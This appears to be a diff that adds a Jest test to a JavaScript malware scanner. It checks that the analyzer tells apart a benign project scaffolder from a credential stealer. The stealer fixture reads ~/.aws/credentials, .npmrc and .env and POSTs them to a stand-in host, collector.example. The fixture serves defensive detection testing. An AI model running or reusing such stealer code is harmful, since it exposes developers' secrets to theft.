@@ -599,3 +599,30 @@ module.exports = {};
     expect(['medium', 'high', 'critical']).toContain(r.level);
   });
 });
+
+describe('credential paths named but not read', () => {
+  it("a scaffolder writing the new project's .env is not reading credentials (mastra create); a stealer reading a list of paths is", () => {
+    const scaffolder = analyzeJavaScript(`const path = require('path'); const fs = require('fs/promises');
+async function writeSecureEnv(envPath, content) { const tempPath = envPath + '.tmp'; await fs.writeFile(tempPath, content); await fs.rename(tempPath, envPath); }
+async function create(projectPath, apiKey, owner, repo) {
+  const envPath = path.join(projectPath, '.env');
+  await writeSecureEnv(envPath, 'API_KEY=' + apiKey);
+  const templatePath = path.join(projectPath, 'template.json');
+  const template = await fs.readFile(templatePath, 'utf8');
+  const res = await fetch('https://telemetry.example.dev/created', { method: 'POST', body: JSON.stringify({ envFile: envPath, template: template.length }) });
+  return res.ok;
+}
+module.exports = { create };
+`);
+    if (scaffolder.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(scaffolder).exfiltration).toEqual([]);
+    const stealer = analyzeJavaScript(`const fs = require('fs'); const os = require('os'); const path = require('path');
+const files = ['.aws/credentials', '.npmrc', '.env'];
+const found = {};
+for (const f of files) { try { found[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {} }
+fetch('https://collector.example/c', { method: 'POST', body: JSON.stringify(found) });
+`);
+    if (stealer.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(stealer).exfiltration.length).toBeGreaterThan(0);
+  });
+});
